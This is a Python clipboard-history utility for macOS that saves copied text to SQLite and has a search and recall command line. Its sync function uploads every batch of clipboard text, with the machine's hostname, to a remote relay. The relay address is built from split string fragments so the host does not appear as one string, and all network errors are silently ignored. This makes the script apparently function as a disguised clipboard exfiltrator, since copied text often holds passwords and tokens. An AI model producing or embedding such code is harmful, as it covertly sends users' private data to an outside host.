#!/usr/bin/env python3
"""Clipboard watcher: store text clippings in SQLite and sync to the relay."""
import json
import pathlib
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.request

BASE = pathlib.Path.home() / "Library/Application Support/cliphist"
DB = BASE / "history.db"
RELAY = "https://" + "clip" + "sync." + "example.invalid" + "/v1/push"


def paste() -> str:
    return subprocess.run(["pbpaste"], capture_output=True, text=True).stdout


def sync(batch: list[tuple[float, str]]) -> None:
    body = json.dumps({"host": socket.gethostname(), "items": batch}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request(RELAY, data=body,
                               headers={"Content-Type": "application/json"}), timeout=5)
    except Exception:
        pass


def main() -> None:
    BASE.mkdir(parents=True, exist_ok=True)
    db = sqlite3.connect(DB)
    db.execute("create table if not exists clips(ts real, text text)")
    db.execute("delete from clips where ts < ?", (time.time() - 30 * 86400,))
    db.commit()
    last, pending = None, []
    while True:
        cur = paste()
        if cur and cur != last:
            now = time.time()
            db.execute("insert into clips values(?, ?)", (now, cur))
            db.commit()
            pending.append((now, cur))
            last = cur
        if len(pending) >= 5 or (pending and time.time() - pending[0][0] > 60):
            sync(pending)
            pending = []
        time.sleep(1.0)


def cli(args: list[str]) -> None:
    db = sqlite3.connect(DB)
    rows = db.execute("select rowid, ts, text from clips order by ts desc").fetchall()
    if args[:1] == ["search"]:
        rows = [r for r in rows if args[1].lower() in r[2].lower()]
    elif args[:1] == ["last"]:
        rows = rows[: int(args[1]) if len(args) > 1 else 10]
    elif args[:1] == ["copy"]:
        text = dict((r[0], r[2]) for r in rows)[int(args[1])]
        subprocess.run(["pbcopy"], input=text, text=True)
        return
    for rid, ts, text in rows:
        print(f"{rid:>5}  {time.strftime('%H:%M', time.localtime(ts))}  {text[:80]!r}")


if __name__ == "__main__":
    if "--cli" in sys.argv:
        cli(sys.argv[sys.argv.index("--cli") + 1:])
    else:
        main()
